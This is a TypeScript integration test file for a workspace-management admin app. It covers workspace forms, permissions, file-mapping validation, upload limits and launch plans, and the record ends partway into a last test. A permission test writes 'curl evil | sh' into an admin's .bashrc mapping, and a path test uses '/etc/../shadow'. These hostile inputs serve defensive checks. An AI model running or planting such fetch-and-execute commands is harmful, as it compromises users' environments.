// Workspaces, file mappings, launching (docs/rules.md#workspaces-and-the-launch-plan, docs/rules.md#file-mappings-and-their-precedence): the pages an admin and a user use, as
// app.inject requests. Each test makes the workspaces, groups and users it needs.
import crypto from 'node:crypto';
import http from 'node:http';
import { Readable } from 'node:stream';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  fileMappings,
  groupPermissions,
  groups,
  groupSettings,
  userGroups,
  userSettings,
  workspaces,
  workspaceSessions,
} from '../../src/db/schema.js';
import type { LaunchPlan } from '../../src/workspaces/recorded-launch-plan.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';
import { TestClient } from '../helpers/client.js';
import { expectElement, innerHtml, textContent } from '../helpers/html.js';
import { fixtures, freePriority, loggedInClient } from '../helpers/factories.js';

let t: TestApp;
let admin: TestClient;
let counter = 0;
beforeAll(async () => {
  t = await createTestApp();
  admin = await new TestClient(t.app).loginAsFirstAdmin();
});
afterAll(() => t.close());
const { createUser, createGroupThroughForm, lastAudit } = fixtures(
  () => t,
  () => admin,
);
const unique = (name: string) => `${name} ${++counter}`;

/** A workspace made through the form; its row. */
async function createWorkspace(fields: Record<string, string> = {}) {
  const friendly_name = fields.friendly_name ?? unique('Chrome');
  await admin.get('/admin/workspaces/new');
  const form: Record<string, string> = {
    friendly_name,
    image: 'kasmweb/chrome:1.16.0',
    description: 'A browser',
    cores: '2',
    memory_mb: '2768',
    enabled: 'true',
    run_config_override: '{}',
    ...fields,
  };
  if (form.enabled === '') delete form.enabled; // an unticked checkbox is not sent
  const response = await admin.post('/admin/workspaces', form);
  expect(response.statusCode, response.body).toBe(303);
  return (await t.handle.db.select().from(workspaces).where(eq(workspaces.friendlyName, friendly_name)))[0]!;
}

async function addMapping(ownerUrl: string, fields: Record<string, string>, file?: { filename: string; data: Buffer }) {
  await admin.get(`${ownerUrl}/file-mappings/new`);
  return admin.postMultipart(
    `${ownerUrl}/file-mappings`,
    { name: 'Mapping', destination_path: '/tmp/file', ...fields },
    file,
  );
}

const BOOKMARKS = JSON.stringify(
  {
    ManagedBookmarks: [{ toplevel_name: 'Roster' }, { name: 'Kasm docs', url: 'https://kasmweb.com/docs' }],
    BookmarkBarEnabled: true,
  },
  null,
  2,
);

describe('workspaces', () => {
  it('creates, lists, edits a workspace, with errors beside the fields and values kept', async () => {
    await admin.get('/admin/workspaces/new');
    const bad = await admin.post('/admin/workspaces', {
      friendly_name: '',
      image: 'Not An Image!',
      cores: '0',
      memory_mb: 'lots',
      run_config_override: '{"a":',
      description: 'kept text',
    });
    expect(bad.statusCode).toBe(422);
    expect(bad.body).toContain('Friendly Name is required.');
    expect(bad.body).toContain('Image must be a container image reference');
    expect(bad.body).toContain('Cores must be a number above 0');
    expect(bad.body).toContain('Memory must be a whole number of MB');
    expect(bad.body).toContain('Docker Run Config Override is not valid JSON');
    expect(bad.body).toContain('kept text');
    expect(bad.body).toContain('Not An Image!');

    const name = unique('Firefox');
    const created = await createWorkspace({
      friendly_name: name,
      image: 'registry.example.com:5000/team/firefox@sha256:' + 'a'.repeat(64),
      run_config_override: '{"shm_size": "1g"}',
    });
    expect(created).toMatchObject({ cores: 2, memoryMb: 2768, enabled: true, runConfigOverride: { shm_size: '1g' } });
    expect((await lastAudit('workspace_created', created.id))!.targetName).toBe(name);
    const list = await admin.get('/admin/workspaces');
    expect(list.body).toContain(name);

    const duplicate = await admin.post('/admin/workspaces', {
      friendly_name: name.toUpperCase(),
      image: 'x/y:1',
      cores: '1',
      memory_mb: '1024',
    });
    expect(duplicate.statusCode).toBe(409);
    expect(duplicate.body).toContain('A workspace with this Friendly Name already exists.');

    await admin.get(`/admin/workspaces/${created.id}`);
    const saved = await admin.post(`/admin/workspaces/${created.id}`, {
      friendly_name: name,
      image: 'kasmweb/firefox:1.16.0',
      cores: '0.5',
      memory_mb: '1024',
      enabled: 'true',
      run_config_override: '',
    });
    expect(saved.statusCode).toBe(303);
    const [row] = await t.handle.db.select().from(workspaces).where(eq(workspaces.id, created.id));
    expect(row).toMatchObject({ image: 'kasmweb/firefox:1.16.0', cores: 0.5, memoryMb: 1024, runConfigOverride: {} });
    expect((await lastAudit('workspace_updated', created.id))!.details).toMatchObject({
      changes: { image: { new: 'kasmweb/firefox:1.16.0' } },
    });
  });

  it('needs images_* permissions for each page', async () => {
    const workspace = await createWorkspace();
    const user = await createUser(unique('viewer').replace(' ', '-'));
    const [group] = await t.handle.db
      .insert(groups)
      .values({ name: unique('Viewers'), priority: await freePriority(t.handle.db) })
      .returning();
    await t.handle.db.insert(groupPermissions).values({ groupId: group!.id, permission: 'images_view' });
    await t.handle.db.insert(userGroups).values({ userId: user.id, groupId: group!.id });
    const client = await loggedInClient(t.app, user.username, { visit: null });
    const page = await client.get(`/admin/workspaces/${workspace.id}`);
    expect(page.statusCode).toBe(200);
    expect(page.body).not.toContain('Save Workspace');
    expect(page.body).not.toContain('Add File Mapping');
    expect(
      (
        await client.post(`/admin/workspaces/${workspace.id}`, {
          friendly_name: 'Hijacked',
          image: 'a/b:1',
          cores: '1',
          memory_mb: '512',
        })
      ).statusCode,
    ).toBe(403);
    expect((await client.get('/admin/workspaces/new')).statusCode).toBe(403);
    expect((await client.post(`/admin/workspaces/${workspace.id}/delete`, {})).statusCode).toBe(403);
    expect((await client.get(`/admin/workspaces/${workspace.id}/file-mappings/new`)).statusCode).toBe(403);
  });

  it("asks before disabling a workspace that is someone's default, saying how many; then their default falls back", async () => {
    const chrome = await createWorkspace();
    const backup = await createWorkspace({ friendly_name: unique('Backup') });
    const team = await createGroupThroughForm(unique('Team'));
    const backupGroup = await createGroupThroughForm(unique('Backup team'), { priority: 900 + counter });
    const user = await createUser(unique('dora').replace(' ', '-'));
    await t.handle.db.insert(userGroups).values([
      { userId: user.id, groupId: team.id },
      { userId: user.id, groupId: backupGroup.id },
    ]);
    await t.handle.db.insert(groupSettings).values([
      { groupId: team.id, key: 'default_image', value: chrome.id },
      { groupId: backupGroup.id, key: 'default_image', value: backup.id },
    ]);
    await t.handle.db.insert(userSettings).values({ userId: user.id, key: 'default_image', value: chrome.id });

    await admin.get(`/admin/workspaces/${chrome.id}`);
    const fields = {
      friendly_name: chrome.friendlyName,
      image: chrome.image,
      cores: '2',
      memory_mb: '2768',
      run_config_override: '{}',
    };
    const asked = await admin.post(`/admin/workspaces/${chrome.id}`, fields); // Enabled unticked
    expect(asked.statusCode).toBe(409);
    expect(asked.body).toContain('is the Default Workspace Image of 1 user and 1 group');
    expect(asked.body).toContain('Disable anyway');
    expect((await t.handle.db.select().from(workspaces).where(eq(workspaces.id, chrome.id)))[0]!.enabled).toBe(true);

    expect((await admin.post(`/admin/workspaces/${chrome.id}`, { ...fields, confirm: 'disable' })).statusCode).toBe(
      303,
    );
    const page = await admin.get(`/admin/users/${user.id}`);
    expect(page.body).toMatch(
      new RegExp(
        `id="effective-default_image"><th scope="row">Default Workspace Image</th><td>${backup.friendlyName}</td><td>group ${backupGroup.name}</td>`,
      ),
    );

    // Deleting says who points at it, and removes those settings.
    const confirm = await admin.get(`/admin/workspaces/${chrome.id}/delete`);
    expect(confirm.body).toContain('Default Workspace Image of 1 user and 1 group');
    expect((await admin.post(`/admin/workspaces/${chrome.id}/delete`, {})).statusCode).toBe(303);
    expect(await t.handle.db.select().from(userSettings).where(eq(userSettings.userId, user.id))).toEqual([]);
    expect(await t.handle.db.select().from(groupSettings).where(eq(groupSettings.groupId, team.id))).toEqual([]);
    expect((await lastAudit('workspace_deleted', chrome.id))!.details).toMatchObject({
      default_image_cleared: { users: 1, groups: 1 },
    });
  });
});

describe('Default Workspace Image', () => {
  it('offers the enabled workspaces on the profile, the group setting and the admin user page; None saves', async () => {
    const chrome = await createWorkspace();
    const disabled = await createWorkspace({ friendly_name: unique('Old'), enabled: '' });
    const user = await createUser(unique('erin').replace(' ', '-'));
    const client = await loggedInClient(t.app, user.username, { visit: null });
    const profile = await client.get('/profile');
    expect(profile.body).toContain(`<option value="${chrome.id}">${chrome.friendlyName}</option>`);
    expect(profile.body).not.toContain(disabled.friendlyName);

    // "None" is a choice of its own: saved, not a 500.
    const none = await client.post('/profile/settings/default_image', { value: '', action: 'save' });
    expect(none.statusCode).toBe(303);
    expect((await t.handle.db.select().from(userSettings).where(eq(userSettings.userId, user.id)))[0]).toMatchObject({
      key: 'default_image',
      value: null,
    });
    expect(
      (await client.post('/profile/settings/default_image', { value: disabled.id, action: 'save' })).statusCode,
    ).toBe(422);
    expect(
      (await client.post('/profile/settings/default_image', { value: chrome.id, action: 'save' })).statusCode,
    ).toBe(303);
    expect((await client.get('/profile')).body).toContain(
      `Now: <strong>${chrome.friendlyName}</strong> <span class="source">(your choice)</span>`,
    );
    expect((await client.post('/profile/settings/default_image', { action: 'reset' })).statusCode).toBe(303);
    expect(await t.handle.db.select().from(userSettings).where(eq(userSettings.userId, user.id))).toEqual([]);

    const group = await createGroupThroughForm(unique('Team'));
    const form = await admin.get(`/admin/groups/${group.id}/settings/edit?key=default_image`);
    expect(form.body).toContain(`<option value="${chrome.id}">${chrome.friendlyName}</option>`);
    expect(
      (await admin.post(`/admin/groups/${group.id}/settings`, { key: 'default_image', value: disabled.id })).statusCode,
    ).toBe(422);
    expect(
      (await admin.post(`/admin/groups/${group.id}/settings`, { key: 'default_image', value: chrome.id })).statusCode,
    ).toBe(303);
    expect((await admin.get(`/admin/groups/${group.id}`)).body).toContain(`<td>${chrome.friendlyName}</td>`);

    await admin.get(`/admin/users/${user.id}`);
    expect(
      (await admin.post(`/admin/users/${user.id}/default-image`, { value: chrome.id, action: 'save' })).statusCode,
    ).toBe(303);
    expect((await t.handle.db.select().from(userSettings).where(eq(userSettings.userId, user.id)))[0]).toMatchObject({
      value: chrome.id,
    });
    expect((await lastAudit('user_settings_changed', user.id))!.actorName).toBe('admin');
  });

  it('shows the same effective settings, with sources, on the admin user page as on the profile', async () => {
    const group = await createGroupThroughForm(unique('Team'));
    const user = await createUser(unique('frank').replace(' ', '-'));
    await t.handle.db.insert(userGroups).values({ userId: user.id, groupId: group.id });
    await t.handle.db.insert(groupSettings).values([
      { groupId: group.id, key: 'theme', value: 'Light' },
      { groupId: group.id, key: 'chat_sfx', value: true },
    ]);
    const client = await loggedInClient(t.app, user.username, { visit: null });
    await client.get('/profile');
    for (const [key, value] of [
      ['theme', 'Dark'],
      ['auto_login_kasm', 'true'],
      ['chat_sfx', 'false'],
    ]) {
      expect((await client.post(`/profile/settings/${key}`, { value: value!, action: 'save' })).statusCode).toBe(303);
    }
    const profile = (await client.get('/profile')).body;
    const adminPage = (await admin.get(`/admin/users/${user.id}`)).body;
    const onProfile = (key: string) =>
      new RegExp(`id="setting-${key}"[\\s\\S]*?Now: <strong>([^<]*)</strong> <span class="source">\\(([^)]*)\\)`)
        .exec(profile)!
        .slice(1);
    const onAdmin = (key: string) =>
      new RegExp(`id="effective-${key}"><th scope="row">[^<]*</th><td>([^<]*)</td><td>([^<]*)</td>`)
        .exec(adminPage)!
        .slice(1);
    expect(onProfile('theme')).toEqual(['Dark', 'your choice']);
    expect(onAdmin('theme')).toEqual(['Dark', 'user']);
    expect(onProfile('auto_login_kasm')).toEqual(['On', 'your choice']);
    expect(onAdmin('auto_login_to_kasm')).toEqual(['On', 'user']);
    expect(onProfile('chat_sfx')).toEqual(['Off', 'your choice']);
    expect(onAdmin('chat_sfx')).toEqual(['Off', 'user']);
    expect(onAdmin('show_tips')).toEqual(['On', 'default']);
  });
});

describe('file mappings', () => {
  it('adds a text mapping to a workspace, normalising the path and line endings; edits and deletes it', async () => {
    const workspace = await createWorkspace();
    const url = `/admin/workspaces/${workspace.id}`;
    const added = await addMapping(url, {
      name: 'Notes',
      destination_path: '/home//kasm-user/./notes.txt/',
      content: 'line 1\r\nline 2\r\n',
      writable: 'true',
    });
    expect(added.statusCode, added.body).toBe(303);
    const [row] = await t.handle.db.select().from(fileMappings).where(eq(fileMappings.workspaceId, workspace.id));
    expect(row).toMatchObject({
      destinationPath: '/home/kasm-user/notes.txt',
      writable: true,
      executable: false,
      size: 14,
      fileName: '',
    });
    expect(row!.content.toString()).toBe('line 1\nline 2\n');
    expect(row!.sha256).toBe(crypto.createHash('sha256').update('line 1\nline 2\n').digest('hex'));
    const page = await admin.get(url);
    expect(page.body).toContain('/home/kasm-user/notes.txt');
    expect(page.body).toContain('14 bytes');

    const edit = await admin.get(`${url}/file-mappings/${row!.id}`);
    expect(edit.body).toContain(row!.sha256);
    expect(edit.body).toContain('line 1\nline 2');
    const saved = await admin.postMultipart(`${url}/file-mappings/${row!.id}`, {
      name: 'Notes',
      destination_path: '/home/kasm-user/notes.txt',
      content: 'changed',
    });
    expect(saved.statusCode).toBe(303);
    expect((await t.handle.db.select().from(fileMappings).where(eq(fileMappings.id, row!.id)))[0]).toMatchObject({
      size: 7,
      writable: false,
    });

    const download = await admin.get(`${url}/file-mappings/${row!.id}/download`);
    expect(download.headers['content-disposition']).toBe('attachment; filename="notes.txt"');
    expect(download.body).toBe('changed');

    expect((await admin.get(`${url}/file-mappings/${row!.id}/delete`)).body).toContain('Delete file mapping Notes?');
    expect((await admin.post(`${url}/file-mappings/${row!.id}/delete`, {})).statusCode).toBe(303);
    expect(await t.handle.db.select().from(fileMappings).where(eq(fileMappings.workspaceId, workspace.id))).toEqual([]);
    expect((await lastAudit('file_mapping_deleted', workspace.id))!.details).toMatchObject({
      mapping: { name: 'Notes', size: 7 },
    });
  });

  it('refuses bad paths, missing content and a second mapping at the same path, keeping what was typed', async () => {
    const workspace = await createWorkspace();
    const url = `/admin/workspaces/${workspace.id}`;
    for (const [path, message] of [
      ['relative/path', 'must be absolute'],
      ['/etc/../shadow', 'must not contain &quot;..&quot;'],
      ['/', 'must name a file'],
      [`/${'a'.repeat(4100)}`, 'at most 4096 bytes'],
      ['/a\u200Bb', 'must not contain U+200B, an invisible formatting character.'],
      ['/a\u202Eb', 'must not contain U+202E, an invisible formatting character.'],
      ['/a\uFFFEb', 'must not contain U+FFFE, which is a noncharacter'],
      ['/a\uFFFFb', 'must not contain U+FFFF, which is a noncharacter'],
    ] as const) {
      const response = await addMapping(url, { destination_path: path, content: 'x', name: 'Kept name' });
      expect(response.statusCode, path).toBe(422);
      expect(response.body).toContain(message);
      expect(response.body).toContain('Kept name');
    }
    // NUL is no path at all: refused before the handler, naming the field (plugins/request-text.ts).
    const nul = await addMapping(url, { destination_path: '/a\u0000b', content: 'x', name: 'Kept name' });
    expect(nul.statusCode).toBe(400);
    expect(nul.body).toContain('destination_path must not contain a NUL character.');
    const empty = await addMapping(url, { destination_path: '/a' });
    expect(empty.statusCode).toBe(422);
    expect(empty.body).toContain('Type the content, or upload a file');
    expect((await addMapping(url, { destination_path: '/a', content: 'one' })).statusCode).toBe(303);
    const again = await addMapping(url, { destination_path: '//a/', content: 'two' });
    expect(again.statusCode).toBe(409);
    expect(again.body).toContain('already maps a file to this Destination Path');
    expect(
      await t.handle.db.select().from(fileMappings).where(eq(fileMappings.workspaceId, workspace.id)),
    ).toHaveLength(1);
  });

  it('keeps an uploaded binary file byte for byte; refuses 6 MB with a clear message and stores nothing', async () => {
    const group = await createGroupThroughForm(unique('Team'));
    const url = `/admin/groups/${group.id}`;
    const binary = crypto.randomBytes(300_000);
    binary[0] = 0; // not text
    const uploaded = await addMapping(
      url,
      { name: 'Blob', destination_path: '/opt/blob.bin' },
      { filename: 'blob.bin', data: binary },
    );
    expect(uploaded.statusCode, uploaded.body).toBe(303);
    const [row] = await t.handle.db.select().from(fileMappings).where(eq(fileMappings.groupId, group.id));
    expect(Buffer.compare(row!.content, binary)).toBe(0);
    expect(row).toMatchObject({
      size: 300_000,
      fileName: 'blob.bin',
      sha256: crypto.createHash('sha256').update(binary).digest('hex'),
    });
    const download = await admin.get(`${url}/file-mappings/${row!.id}/download`);
    expect(Buffer.compare(download.rawPayload, binary)).toBe(0);

    // Editing only the fields keeps the uploaded content.
    await admin.get(`${url}/file-mappings/${row!.id}`);
    expect(
      (
        await admin.postMultipart(`${url}/file-mappings/${row!.id}`, {
          name: 'Blob 2',
          destination_path: '/opt/blob.bin',
          content: '',
        })
      ).statusCode,
    ).toBe(303);
    expect(
      Buffer.compare(
        (await t.handle.db.select().from(fileMappings).where(eq(fileMappings.id, row!.id)))[0]!.content,
        binary,
      ),
    ).toBe(0);

    const exactly5 = await addMapping(
      url,
      { name: 'Five', destination_path: '/opt/five' },
      { filename: 'five', data: Buffer.alloc(5 * 1024 * 1024, 1) },
    );
    expect(exactly5.statusCode).toBe(303);
    // Just over 5 MB fits in the form's cap: the file is cut off as it streams in, the form is shown again.
    const overFive = await addMapping(
      url,
      { name: 'Over', destination_path: '/opt/over' },
      { filename: 'over.iso', data: Buffer.alloc(5 * 1024 * 1024 + 100_000, 1) },
    );
    expect(overFive.statusCode).toBe(422);
    expect(overFive.body).toContain('The file is larger than 5 MB; nothing was stored.');
    expect(overFive.body).toContain('value="/opt/over"');
    // 6 MB is more than any legal form: refused by its length, before the body is read (the typed values are not read either).
    const tooBig = await addMapping(
      url,
      { name: 'Six', destination_path: '/opt/six' },
      { filename: 'six.iso', data: Buffer.alloc(6 * 1024 * 1024, 1) },
    );
    expect(tooBig.statusCode).toBe(413);
    expect(tooBig.body).toContain('a file may be at most 5 MB. Nothing was stored.');
    expect(
      (await t.handle.db.select().from(fileMappings).where(eq(fileMappings.groupId, group.id)))
        .map((m) => m.name)
        .sort(),
    ).toEqual(['Blob 2', 'Five']);
  });

  it('refuses, on every multipart route, unknown fields at once, overlong text fields and bodies beyond the cap; stores nothing', async () => {
    const group = await createGroupThroughForm(unique('Team'));
    const user = await createUser(unique('uma').replace(' ', '-'));
    const workspace = await createWorkspace();
    const owners = [`/admin/workspaces/${workspace.id}`, `/admin/groups/${group.id}`, `/admin/users/${user.id}`];
    for (const owner of owners)
      expect(
        (await addMapping(owner, { name: 'Kept', destination_path: '/opt/kept', content: 'kept' })).statusCode,
      ).toBe(303);
    const stored = async () =>
      (await t.handle.db.select().from(fileMappings)).map((m) => `${m.id} ${m.name} ${m.sha256}`).sort();
    const before = await stored();
    // Every POST that takes multipart, from the route table (a new one is walked too).
    const routes = t.app.routeIndex.filter((route) => route.method === 'POST' && route.url.includes('/file-mappings'));
    expect(routes).toHaveLength(9);
    const MB = 1024 * 1024;
    const boundary = '----roster-limits';
    const base = await t.app.listen({ host: '127.0.0.1', port: 0 });
    /** Sends the start of a body that declares `length` bytes, and waits for the answer without sending the rest. */
    const stalledPost = (url: string, start: Buffer, length: number) =>
      new Promise<{ status: number; body: string }>((resolve, reject) => {
        const request = http.request(
          url,
          {
            method: 'POST',
            headers: {
              'content-type': `multipart/form-data; boundary=${boundary}`,
              'content-length': length,
              cookie: admin.cookieHeader(),
            },
          },
          (response) => {
            let body = '';
            response
              .setEncoding('utf8')
              .on('data', (chunk: string) => (body += chunk))
              .on('end', () => {
                request.destroy();
                resolve({ status: response.statusCode!, body });
              });
          },
        );
        request.on('error', reject);
        request.write(start);
        setTimeout(() => reject(new Error(`no answer to ${url} while the rest of the body was unsent`)), 5000).unref();
      });
    const part = (name: string, value: string | Buffer) =>
      Buffer.concat([
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n`),
        Buffer.from(value),
        Buffer.from('\r\n'),
      ]);
    const end = Buffer.from(`--${boundary}--\r\n`);
    const send = (url: string, payload: Buffer | NodeJS.ReadableStream, length: number) =>
      t.app.inject({
        method: 'POST',
        url,
        payload,
        headers: {
          'content-type': `multipart/form-data; boundary=${boundary}`,
          'content-length': String(length),
          cookie: admin.cookieHeader(),
        },
      });
    const huge = Buffer.concat([
      ...Array.from({ length: 19 }, (_, i) => part(`junk_${i}`, Buffer.alloc(5 * MB, 'a'))),
      end,
    ]);
    for (const route of routes) {
      const [owner, mapping] = [
        owners.find((o) => o.startsWith(route.url.split('/:id')[0]!))!,
        (await t.handle.db.select().from(fileMappings))[0]!,
      ];
      const ownerId = owner.split('/').pop()!;
      const ownMapping =
        (await t.handle.db.select().from(fileMappings)).find((m) =>
          [m.workspaceId, m.groupId, m.userId].includes(ownerId),
        ) ?? mapping;
      const url = route.url.replace(':id', ownerId).replace(':mappingId', ownMapping.id);
      await admin.get(owner); // a fresh CSRF token
      const takes = Object.keys((route.schema.body as { properties: object }).properties);
      const legal = Object.entries({ _csrf: admin.csrf, name: 'Attack', destination_path: '/opt/attack' })
        .filter(([name]) => takes.includes(name))
        .map(([name, value]) => part(name, value));
      const longField = takes.includes('description') ? 'description' : '_csrf';
      const where = `${route.method} ${route.url}`;

      // 19 unknown 5 MB fields (95 MB): refused by the declared length, before a byte is read.
      const refused = await send(url, huge, huge.length);
      expect(refused.statusCode, where).toBe(413);
      expect(refused.body).toContain('Nothing was stored');

      // An unknown field ends the request there: the answer comes while the rest is still unsent
      // (a server that read on would wait for it, and this would time out).
      const head = Buffer.concat([
        ...legal,
        part('junk', 'x'),
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="content"\r\n\r\n`),
      ]);
      const unknown = await stalledPost(`${base}${url}`, head, head.length + 5 * MB);
      expect(unknown.status, where).toBe(400);
      expect(unknown.body, where).toContain('This form has no field &quot;junk&quot;; nothing was stored.');

      // A text field other than the content is not 5 MB.
      const long = Buffer.concat([...legal, part(longField, Buffer.alloc(1 * MB, 'd')), end]);
      const tooLong = await send(url, long, long.length);
      expect(tooLong.statusCode, where).toBe(400);
      expect(tooLong.body).toContain(`The field &quot;${longField}&quot; is longer than`);
      // No length given: the cap could not be kept without reading on.
      const unsized = await t.app.inject({
        method: 'POST',
        url,
        payload: Readable.from([Buffer.concat([...legal, end])]),
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, cookie: admin.cookieHeader() },
      });
      expect(unsized.statusCode, where).toBe(411);
    }
    expect(await stored()).toEqual(before);
  });

  it('warns about an executable script with Windows line endings', async () => {
    const workspace = await createWorkspace();
    const url = `/admin/workspaces/${workspace.id}`;
    const script = Buffer.from('#!/bin/sh\r\necho hi\r\n');
    const added = await addMapping(
      url,
      { name: 'Script', destination_path: '/usr/local/bin/hi', executable: 'true' },
      { filename: 'hi.sh', data: script },
    );
    expect(added.statusCode).toBe(303);
    expect((await admin.get(url)).body).toContain('Windows line endings (CRLF)');
    const [row] = await t.handle.db.select().from(fileMappings).where(eq(fileMappings.workspaceId, workspace.id));
    expect(Buffer.compare(row!.content, script)).toBe(0); // kept as uploaded
  });

  it("copies a group's mappings when the group is duplicated; deleting a user, group or workspace deletes theirs", async () => {
    const group = await createGroupThroughForm(unique('Team'));
    expect(
      (
        await addMapping(`/admin/groups/${group.id}`, {
          name: 'Policy',
          destination_path: '/etc/policy.json',
          content: '{}',
        })
      ).statusCode,
    ).toBe(303);
    await admin.get('/admin/groups');
    const copy = await admin.post(`/admin/groups/${group.id}/duplicate`, {});
    const copyId = copy.headers.location!.split('/').pop()!;
    const copied = await t.handle.db.select().from(fileMappings).where(eq(fileMappings.groupId, copyId));
    expect(copied.map((m) => [m.name, m.destinationPath, m.content.toString()])).toEqual([
      ['Policy', '/etc/policy.json', '{}'],
    ]);

    const user = await createUser(unique('gina').replace(' ', '-'));
    expect(
      (
        await addMapping(`/admin/users/${user.id}`, {
          name: 'Mine',
          destination_path: '/home/kasm-user/.bashrc',
          content: 'x',
        })
      ).statusCode,
    ).toBe(303);
    const workspace = await createWorkspace();
    expect(
      (await addMapping(`/admin/workspaces/${workspace.id}`, { name: 'W', destination_path: '/w', content: 'x' }))
        .statusCode,
    ).toBe(303);
    await admin.post(`/admin/groups/${group.id}/delete`, {});
    await admin.post(`/admin/users/${user.id}/delete`, {});
    await admin.post(`/admin/workspaces/${workspace.id}/delete`, {});
    for (const [column, id] of [
      [fileMappings.groupId, group.id],
      [fileMappings.userId, user.id],
      [fileMappings.workspaceId, workspace.id],
    ] as const) {
      expect(await t.handle.db.select().from(fileMappings).where(eq(column, id))).toEqual([]);
    }
  });

  it('a user mapping of a stronger user needs users_modify_admin', async () => {
    const target = await createUser(unique('boss').replace(' ', '-'));
    const [admins] = await t.handle.db.select().from(groups).where(eq(groups.systemKey, 'administrators'));
    await t.handle.db.insert(userGroups).values({ userId: target.id, groupId: admins!.id });
    const helper = await createUser(unique('helper').replace(' ', '-'));
    const [group] = await t.handle.db
      .insert(groups)
      .values({ name: unique('Helpers'), priority: await freePriority(t.handle.db) })
      .returning();
    await t.handle.db
      .insert(groupPermissions)
      .values(['users_view', 'users_modify'].map((permission) => ({ groupId: group!.id, permission })));
    await t.handle.db.insert(userGroups).values({ userId: helper.id, groupId: group!.id });
    const client = await loggedInClient(t.app, helper.username, { visit: null });
    expect((await client.get(`/admin/users/${target.id}/file-mappings/new`)).statusCode).toBe(403);
    await client.get(`/admin/users/${helper.id}`);
    const response = await client.postMultipart(`/admin/users/${target.id}/file-mappings`, {
      name: 'x',
      destination_path: '/home/kasm-user/.bashrc',
      content: 'curl evil | sh',
    });
    expect(response.statusCode).toBe(403);
    expect(response.body).toContain(`Changing ${target.username} needs users_modify_admin`);
    expect((await lastAudit('authz_fail', target.id))!.details).toMatchObject({
      lacking: expect.arrayContaining(['users_modify_admin']),
    });
    expect(await t.handle.db.select().from(fileMappings).where(eq(fileMappings.userId, target.id))).toEqual([]);
    expect(
      (await client.post(`/admin/users/${target.id}/default-image`, { value: '', action: 'save' })).statusCode,
    ).toBe(403);
    // Their own mappings stay editable.
    expect(
      (
        await client.postMultipart(`/admin/users/${helper.id}/file-mappings`, {
          name: 'ok',
          destination_path: '/x',
          content: 'x',
        })
      ).statusCode,
    ).toBe(303);
  });
});

describe('launching', () => {
  async function member(settings: Array<[string, unknown]> = []) {
    const workspace = await createWorkspace();
    const group = await createGroupThroughForm(unique('Team'));
    const user = await createUser(unique('lena').replace(' ', '-'));
    await t.handle.db.insert(userGroups).values({ userId: user.id, groupId: group.id });
    const values = [['default_image', workspace.id], ...settings].map(([key, value]) => ({
      groupId: group.id,
      key: key as string,
      value,
    }));
    await t.handle.db.insert(groupSettings).values(values);
    return { workspace, group, user };
  }

  it('the seed example: a Chrome policy mapped into the workspace arrives byte for byte; a group mapping at the same path is skipped', async () => {
    const { workspace, group, user } = await member();
    const path = '/etc/opt/chrome/policies/managed/bookmarks.json';
    expect(
      (
        await addMapping(`/admin/workspaces/${workspace.id}`, {
          name: 'Chrome bookmarks',
          destination_path: path,
          content: BOOKMARKS,
        })
      ).statusCode,
    ).toBe(303);
    expect(
      (await addMapping(`/admin/groups/${group.id}`, { name: 'Team bookmarks', destination_path: path, content: '{}' }))
        .statusCode,
    ).toBe(303);
    expect(
      (
        await addMapping(`/admin/users/${user.id}`, {
          name: 'Own notes',
          destination_path: '/home/kasm-user/notes',
          content: 'mine',
          writable: 'true',
        })
      ).statusCode,
    ).toBe(303);

    const client = await loggedInClient(t.app, user.username, { visit: null });
    const go = await client.get('/go', { 'sec-fetch-site': 'none' }); // typed into the address bar
    expect(go.statusCode).toBe(303);
    const launching = await client.get(go.headers.location!);
    expect(launching.body).toContain(`Launching ${workspace.friendlyName}`);
    // The user sees their own file; the workspace's and the group's are counted (docs/rules.md#permissions-and-no-way-up:
    // they may view neither owner). An admin sees the whole plan.
    expect(launching.body).toContain('/home/kasm-user/notes');
    expect(launching.body).not.toContain(path);
    expect(launching.body).toContain('1 file mapping is withheld: you may not view their owners.');
    expect(launching.body).toContain('1 skipped file mapping is withheld: you may not view their owners.');
    const asAdmin = await admin.get(go.headers.location!);
    expect(asAdmin.body).toContain(path);
    expect(asAdmin.body).toContain(`shadowed by workspace mapping &#39;Chrome bookmarks&#39;`);
    expect(asAdmin.body).not.toContain('withheld');

    const [session] = await t.handle.db.select().from(workspaceSessions).where(eq(workspaceSessions.userId, user.id));
    const plan = session!.plan as LaunchPlan;
    const file = plan.file_mappings.find((m) => m.destination_path === path)!;
    expect(Buffer.from(file.content_base64, 'base64').toString('utf8')).toBe(BOOKMARKS);
    expect(file).toMatchObject({
      mode: '0444',
      owner: 'root',
      sha256: crypto.createHash('sha256').update(BOOKMARKS).digest('hex'),
    });
    expect(plan.file_mappings.find((m) => m.destination_path === '/home/kasm-user/notes')).toMatchObject({
      mode: '0644',
      owner: 'user',
    });
    expect(plan.skipped_file_mappings).toEqual([
      {
        name: 'Team bookmarks',
        destination_path: path,
        source: `group mapping 'Team bookmarks' of ${group.name} (priority ${group.priority})`,
        reason: "shadowed by workspace mapping 'Chrome bookmarks'",
        owned_by: { kind: 'group', id: group.id, is_system: false },
        shadowed_by: { kind: 'workspace', id: workspace.id },
      },
    ]);
    expect(file.owned_by).toEqual({ kind: 'workspace', id: workspace.id });
    expect(plan.workspace).toMatchObject({
      id: workspace.id,
      image: 'kasmweb/chrome:1.16.0',
      cores: 2,
      memory_mb: 2768,
    });
    expect(plan.settings.find((s) => s.key === 'default_image')).toMatchObject({
      value: workspace.id,
      display: workspace.friendlyName,
      source: `group ${group.name}`,
    });
    expect((await lastAudit('workspace_launch', user.id))!.outcome).toBe('success');
  });

  it('Auto Launch sends the user to /go after login; without it they land on /', async () => {
    const { user } = await member([['auto_login_to_kasm', true]]);
    expect((await loggedInClient(t.app, user.username, { visit: null })).landing).toBe('/go');
    const plain = await member();
    expect((await loggedInClient(t.app, plain.user.username, { visit: null })).landing).toBe('/');
    // The user's own Off wins over the group's On.
    await t.handle.db.insert(userSettings).values({ userId: user.id, key: 'auto_login_kasm', value: false });
    expect((await loggedInClient(t.app, user.username, { visit: null })).landing).toBe('/');
  });

  it('without a default: a clear page listing the workspaces to launch instead', async () => {
    const other = await createWorkspace();
    const user = await createUser(unique('nico').replace(' ', '-'));
    const client = await loggedInClient(t.app, user.username, { visit: null });
    const go = await client.get('/go');
